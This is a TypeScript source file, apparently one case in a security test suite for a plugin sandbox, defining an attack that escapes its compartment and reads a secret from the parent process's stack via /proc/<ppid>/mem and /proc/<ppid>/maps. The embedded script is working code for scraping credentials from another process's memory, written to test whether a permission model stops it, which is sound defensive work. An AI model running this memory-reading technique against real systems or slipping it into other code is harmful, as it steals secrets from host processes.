import type { Attack } from '../../attack.ts';
import { builtin, scriptLeaking } from '../../scene/scripts.ts';
import { writePackage } from '../../scene/write-package.ts';
import { leaks } from '../../watch/harms.ts';
import { LEAKED_MODULES, NO_PERMISSION_MODEL } from '../../weakenings.ts';

export const attack: Attack = {
  name: 'reads-the-memory-of-the-host',
  aim: 'has got out of the compartment and finds a secret in the memory of its host through /proc',
  belt: 'permission alone',
  given: LEAKED_MODULES,
  control: NO_PERMISSION_MODEL,
  build: ({ plugins, secret }) => {
    // Half of it is known, as the beginning of a key often is; the other half is read.
    const find = `(() => {
      const { ppid } = globalThis.process;
      const fs = ${builtin('fs')};
      const memory = fs.openSync('/proc/' + ppid + '/mem', 'r');
      for (const line of fs.readFileSync('/proc/' + ppid + '/maps', 'utf8').split('\\n')) {
        if (!line.includes('[stack]')) continue;
        const [from, to] = line.split(' ')[0].split('-').map((text) => parseInt(text, 16));
        const piece = globalThis.Buffer.alloc(to - from);
        fs.readSync(memory, piece, 0, piece.length, from);
        const at = piece.indexOf(${JSON.stringify(`SECRET=${secret.slice(0, 8)}`)});
        if (at >= 0) return piece.toString('latin1', at + 7, at + 39);
      }
    })()`;
    writePackage(plugins, { script: scriptLeaking(find) });
  },
  harm: (watch) => leaks(watch),
};
